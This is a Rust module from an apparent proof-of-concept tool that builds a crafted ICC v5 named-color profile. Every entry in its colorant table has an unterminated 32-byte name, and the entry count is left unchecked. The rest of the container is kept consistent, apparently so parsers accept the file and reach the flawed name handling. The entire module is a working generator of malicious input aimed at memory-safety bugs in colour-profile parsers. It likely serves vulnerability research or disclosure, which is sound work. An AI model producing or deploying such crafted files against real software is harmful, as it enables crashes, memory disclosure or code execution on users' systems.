//! Crafted profile assembly
//!
//! Builds a named-color ICC v5 profile with a single colorant table whose
//! 32-byte name field has no NUL terminator. Everything else in the
//! container is consistent: the declared size matches the data and the tag
//! lies exactly where the tag table says it does.

use tracing::debug;

use crate::config::PocConfig;
use crate::icc::{
    ColorSpace, ColorantEntry, ColorantTable, DateTimeNumber, HEADER_SIZE, IccError, IccHeader,
    PROFILE_SIGNATURE, ProfileClass, ProfileVersion, RenderingIntent, TagDirectory, TagSignature,
    XyzNumber,
};
use crate::{Error, Result};

/// Fixed creation timestamp so repeated runs produce identical bytes
pub const CREATION_DATE: DateTimeNumber = DateTimeNumber {
    year: 2025,
    month: 12,
    day: 21,
    hour: 20,
    minute: 42,
    second: 0,
};

/// Embedded-profile flag
pub const FLAG_EMBEDDED: u32 = 0x0000_0001;

/// Assembles the crafted profile
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ProfileBuilder {
    entry_count: u32,
    name_fill: u8,
    pcs: [u16; 3],
}

impl Default for ProfileBuilder {
    fn default() -> Self {
        let config = PocConfig::default();
        Self {
            entry_count: config.entry_count,
            name_fill: config.name_fill,
            pcs: config.pcs,
        }
    }
}

impl ProfileBuilder {
    pub fn new() -> Self {
        Self::default()
    }

    pub fn from_config(config: &PocConfig) -> Result<Self> {
        config.validate()?;
        Ok(Self {
            entry_count: config.entry_count,
            name_fill: config.name_fill,
            pcs: config.pcs,
        })
    }

    /// Header with every field fixed except the declared size.
    ///
    /// `total_size` is written as given; it is up to the caller to pass the
    /// final profile length.
    pub fn build_header(total_size: u32) -> [u8; HEADER_SIZE] {
        IccHeader {
            size: total_size,
            cmm_type: 0,
            version: ProfileVersion::V5_0,
            device_class: ProfileClass::NamedColor,
            color_space: ColorSpace::NoData,
            pcs: ColorSpace::NoData,
            creation_date: CREATION_DATE,
            signature: PROFILE_SIGNATURE,
            platform: 0,
            flags: FLAG_EMBEDDED,
            manufacturer: 0,
            model: 0,
            attributes: 0,
            rendering_intent: RenderingIntent::AbsoluteColorimetric,
            illuminant: XyzNumber::D50,
            creator: 0,
            profile_id: [0; 16],
        }
        .to_bytes()
    }

    /// Colorant table payload with `entry_count` unterminated names.
    ///
    /// The count is not checked against the channel limits a reader applies.
    pub fn build_colorant_tag(&self, entry_count: u32) -> Vec<u8> {
        let entry = ColorantEntry::filled(self.name_fill, self.pcs);
        let table = ColorantTable::new(vec![entry; entry_count as usize]);
        debug!(
            entries = entry_count,
            fill = self.name_fill,
            "built colorant table"
        );
        table.to_bytes()
    }

    /// Tag table for `tags`, with each payload placed right after the
    /// previous one in input order
    pub fn build_tag_directory(
        tags: &[(TagSignature, &[u8])],
    ) -> std::result::Result<TagDirectory, IccError> {
        TagDirectory::layout(tags)
    }

    /// Full profile bytes: header, tag table, then each payload at the
    /// offset recorded for it in the tag table
    pub fn assemble(&self) -> Result<Vec<u8>> {
        let colorant_tag = self.build_colorant_tag(self.entry_count);
        let tags = [(TagSignature::COLORANT_TABLE, colorant_tag.as_slice())];
        let directory = Self::build_tag_directory(&tags).map_err(Error::Layout)?;

        let table_end = HEADER_SIZE + directory.encoded_len();
        let total_size = table_end as u64 + directory.payload_len();
        let declared_size = u32::try_from(total_size)
            .map_err(|_| Error::Layout(IccError::TooLarge { size: total_size }))?;

        let mut out = vec![0u8; declared_size as usize];
        out[..HEADER_SIZE].copy_from_slice(&Self::build_header(declared_size));
        out[HEADER_SIZE..table_end].copy_from_slice(&directory.to_bytes());

        for (placement, (_, payload)) in directory.placements.iter().zip(&tags) {
            let start = placement.offset as usize;
            out[start..start + payload.len()].copy_from_slice(payload);
        }

        debug!(size = declared_size, tags = tags.len(), "assembled profile");
        Ok(out)
    }
}
